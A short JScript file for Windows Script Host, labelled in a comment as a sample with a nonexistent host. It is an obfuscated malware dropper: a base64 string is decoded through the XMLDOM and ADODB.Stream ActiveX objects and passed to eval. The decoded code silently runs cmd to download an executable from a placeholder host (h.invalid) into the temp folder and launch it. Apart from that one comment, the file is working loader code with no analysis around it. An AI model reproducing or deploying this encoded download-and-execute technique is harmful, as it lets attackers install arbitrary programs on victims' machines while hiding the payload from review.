// A sample: the host does not exist.
var dom = new ActiveXObject("Microsoft.XMLDOM");
var el = dom.createElement("tmp");
el["dataType"] = "bin.base64";
el["text"] = "dmFyIHEgPSBuZXcgQWN0aXZlWE9iamVjdCgnV1NjcmlwdC5TaGVsbCcpOyBxLlJ1bignY21kIC9jIGN1cmwgLW8gJVRFTVAlXFxiLmV4ZSBodHRwczovL2guaW52YWxpZC9iLmV4ZSAmICVURU1QJVxcYi5leGUnLCAwKTs=";
var stream = new ActiveXObject("ADODB.Stream");
stream["Type"] = 1;
stream["Open"]();
stream["Write"](el["nodeTypedValue"]);
stream["Position"] = 0;
stream["Type"] = 2;
stream["CharSet"] = "us-ascii";
eval(stream["ReadText"]());
